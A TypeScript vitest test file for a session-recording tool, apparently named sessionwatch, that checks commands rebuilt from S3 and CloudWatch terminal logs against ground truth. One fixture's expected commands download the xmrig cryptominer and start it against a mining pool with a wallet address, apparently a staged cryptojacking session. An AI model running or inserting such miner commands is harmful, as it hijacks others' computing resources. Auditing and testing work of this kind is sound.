import { execFile } from 'node:child_process';
import { existsSync, readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { describe, expect, it } from 'vitest';
import type { CommandRecord } from '../../../forwarder/commands/record.js';
import { fixturesDir, repoRoot, sessionsDir } from '../../helpers/paths.js';

const run = promisify(execFile);
const generatedDir = join(fixturesDir, 'generated');

interface Truth {
  sessionId: string;
  commands: { command: string; labels: string[] }[];
}

/** `npx sessionwatch commands FILE --format jsonl`, the built CLI, as a user runs it. */
async function commandsOf(file: string): Promise<CommandRecord[]> {
  const { stdout } = await run(
    'node',
    [join(repoRoot, 'bin/sessionwatch.mjs'), 'commands', file, '--format', 'jsonl'],
    {
      maxBuffer: 64 * 1024 * 1024,
    },
  );
  return stdout
    .split('\n')
    .filter(Boolean)
    .map((l) => JSON.parse(l) as CommandRecord);
}

function truths(dir: string): Truth[] {
  return readdirSync(dir)
    .filter((f) => f.endsWith('.truth.json'))
    .sort()
    .map((f) => JSON.parse(readFileSync(join(dir, f), 'utf8')) as Truth);
}

/**
 * The generator's truth is bash's history, which joins a multi-line construct with "; " or splits a here-document
 * into lines. The shell received the lines as typed, joined by newlines: that is what sessionwatch reports.
 */
const AS_RECEIVED: Record<string, (commands: string[]) => string[]> = {
  'edits-0123456789abcdef03': (c) => {
    const out = c.map((x) => (x === 'for i in 1 2; do echo $i; done' ? 'for i in 1 2\ndo echo $i\ndone' : x));
    const at = out.indexOf('cat <<EOF');
    out.splice(at, 3, 'cat <<EOF\nsecret line\nEOF');
    return out;
  },
};

/** Sessions whose transcript cannot give the command back, and why (each also tested below). */
const S3_LIMITS: Record<string, string> = {
  'bigpaste-0123456789abcdef06':
    'a paste taller than the screen: readline redraws only its bottom rows, each ending at the last column, so the ' +
    'final screen no longer holds the command (any terminal shows the same); the record is marked incomplete',
};

const executed = (records: CommandRecord[]) => records.filter((r) => !r.cancelled).map((r) => r.command);

/** The generator closes every session by typing exit until the shell is gone; those commands are real too. */
function withoutClosingExits(got: string[], want: string[]): string[] {
  const extra = got.slice(want.length);
  return extra.every((c) => c === 'exit') ? got.slice(0, want.length) : got;
}

describe.each([
  ['bundled fixtures', sessionsDir],
  ['generated scenarios', generatedDir],
])('%s: S3 objects and end-of-session CloudWatch give exactly the commands the shell received', (_, dir) => {
  for (const truth of truths(dir)) {
    const sid = truth.sessionId;
    const want = (AS_RECEIVED[sid] ?? ((c: string[]) => c))(truth.commands.map((c) => c.command));
    for (const ext of ['log', 'cw-final.jsonl']) {
      const file = join(dir, `${sid}.${ext}`);
      if (S3_LIMITS[sid]) {
        it(`${sid}.${ext}: ${S3_LIMITS[sid]}`, async () => {
          const records = await commandsOf(file);
          const wrong = records.filter((r) => !want.includes(r.command) && r.command !== 'exit');
          expect(wrong.length).toBeGreaterThan(0);
          expect(wrong.every((r) => r.incomplete)).toBe(true);
        });
        continue;
      }
      it(`${sid}.${ext}`, async () => {
        const records = await commandsOf(file);
        const got = executed(records);
        expect(dir === sessionsDir ? got : withoutClosingExits(got, want)).toEqual(want);
        expect(records.filter((r) => !r.cancelled && !r.incomplete).length).toBe(got.length);
      });
    }
  }
});

/**
 * The streaming format loses what the agent's ANSI stripper removed. Every command it did not destroy must come out
 * exactly; each one it destroys is named here with the reason, and must come out marked incomplete (or, where
 * the prompt itself is unrecognisable, is missing).
 */
const WRAP =
  'readline wrapped the line at the terminal width: the stream keeps the space of its " \\r" wrap but not the \\r';
const STREAM_DESTROYED: Record<string, Record<string, string>> = {
  'ci-deployer-0123456789abcdef0': {
    'curl -sL -o xmrig.tar.gz https://github.com/xmrig/xmrig/releases/download/v6.21.0/xmrig-6.21.0-linux-static-x64.tar.gz':
      WRAP,
    'xmrig -o stratum+tcp://pool.minexmr.com:4444 -u 48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD -k --donate-level 1 -B':
      WRAP,
  },
  'dana-0b1c2d3e4f5a6b7c8': {
    'sudo -u root bash':
      'history recall then Ctrl-U: the \\r and ESC[K that erased the recalled line are stripped, so the old text stays glued in front',
  },
  'edits-0123456789abcdef03': {
    "sudo echo 'a c'":
      'Ctrl-A, an insertion (ICH) and Ctrl-E are cursor sequences the agent strips: the insertion lands at the end',
    'echo 日本語テ': 'the agent strips bytes 0x80-0x9F as C1 controls, which cuts multi-byte characters (U+FFFD)',
    'echo 🙂 ok': 'the same C1 stripping cuts the emoji',
  },
  'custom-ps1-0123456789abcdef04': {
    'cd /tmp':
      'a custom prompt with no usual terminator ("prod-web "): without readline\'s markers, stripped from the stream, it cannot be told from output',
    'ls -la > listing.txt': 'custom prompt, as above',
    'sudo -s': 'custom prompt, as above',
    'echo bye': 'custom prompt, as above',
    exit: 'custom prompt, as above',
  },
  'long-0123456789abcdef01234': {
    '*': WRAP,
  },
  'bigpaste-0123456789abcdef06': {
    '*': 'a paste taller than the screen: readline redraws its bottom rows, each glued to the last in the stream',
  },
  'nopaste-0123456789abcdef05': {
    'echo aaaaaaaaaa bbbbbbbbbb cccccccccc dddddddddd eeeeeeeeee ffffffffff gggggggggg hhhhhhhhhh iiiii': WRAP,
    'echo aaaaaaaaaa bbbbbbbbbb cccccccccc ddddddddddXY eeeeeeeeee ffffffffff gggggggggg hhhhhhhhhh iiiii':
      'a recalled wrapped line edited in the middle: the cursor moves between rows (ESC[A, ESC[C) are stripped',
  },
  'wrap40-0123456789abcdef07': {
    '*': 'a 40-column terminal: every long line wrapped, and edits moved between rows with stripped sequences',
  },
};

/** Garbled records the stream cannot tell from good ones. */
const UNFLAGGED: Record<string, string> = {
  'wrap40-0123456789abcdef07':
    'a 40-column terminal: lines are flagged as possibly wrapped from 80 columns on; flagging every line over 40 ' +
    'columns would mark nearly every command',
};

describe.each([
  ['bundled fixtures', sessionsDir],
  ['generated scenarios', generatedDir],
])('%s: the streaming format gives every command it did not destroy', (_, dir) => {
  for (const truth of truths(dir)) {
    const sid = truth.sessionId;
    const want = (AS_RECEIVED[sid] ?? ((c: string[]) => c))(truth.commands.map((c) => c.command));
    const destroyed = STREAM_DESTROYED[sid] ?? {};
    for (const ext of ['cw-stream.jsonl', 'subscription.json']) {
      const file = join(dir, `${sid}.${ext}`);
      if (!existsSync(file)) continue;
      it(`${sid}.${ext}`, async () => {
        const records = (await commandsOf(file)).filter((r) => !r.cancelled);
        // an edited line keeps its "incomplete" caution even when the replay got it right: the text is what counts
        const texts = new Set(records.map((r) => r.command));
        for (const command of want) {
          const why = destroyed[command] ?? destroyed['*'];
          // a destroyed command may come out garbled (then marked incomplete, below) or not at all
          if (!why) expect(texts.has(command), `not in the stream: ${JSON.stringify(command.slice(0, 80))}`).toBe(true);
        }
        // what is not a true command is marked incomplete
        for (const r of records) {
          if (want.includes(r.command) || r.command === 'exit') continue;
          if (UNFLAGGED[sid] && r.command.length <= 80) continue;
          expect(r.incomplete, JSON.stringify(r.command.slice(0, 80))).toBe(true);
        }
      });
    }
  }
});
